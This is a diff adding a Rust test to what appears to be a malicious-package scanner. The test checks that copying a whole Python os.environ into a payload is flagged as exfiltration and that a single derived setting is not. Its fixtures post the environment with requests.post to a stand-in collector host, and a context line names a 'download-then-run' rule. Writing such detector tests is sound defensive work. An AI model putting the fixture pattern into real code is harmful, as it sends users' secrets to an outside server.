@@ -2851,3 +2851,29 @@ fn a_module_level_dispatch_on_the_command_line_is_a_programs_entry() {
         assert_eq!(severity_of("pkg/__init__.py", &setup, "download-then-run"), Some(Severity::Critical), "{setup}");
     }
 }
+
+/// A helper of the file that is handed the environment gives back only
+/// what it returns: a setting chosen by one variable is not the
+/// environment (a client resolving its transport from `os.environ`, the
+/// result then sent to its server). Returned whole, it is. Written for the
+/// test.
+#[test]
+fn a_helper_hands_back_only_what_it_returns() {
+    let source = |body: &str| {
+        format!(
+            "import os, requests\ndef settings(env):\n{body}\ndef report():\n    s = settings(os.environ)\n    \
+             requests.post('https://collector.example.invalid/r', json={{'s': s}})\n"
+        )
+    };
+    let exfiltration = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/t.py", bytes: src.as_bytes() }]);
+        report.findings.into_iter().find(|f| f.rule == "exfiltration")
+    };
+    let chosen = source("    mode = env.get('APP_MODE')\n    return 'debug' if mode == '1' else 'quiet'");
+    assert!(exfiltration(&chosen).is_none(), "{chosen}");
+    for body in ["    data = dict(env)\n    return data", "    out = {}\n    out.update(env)\n    return out"] {
+        let copied = source(body);
+        let f = exfiltration(&copied).unwrap_or_else(|| panic!("{copied}"));
+        assert!(f.severity >= Severity::High, "{f:#?}");
+    }
+}
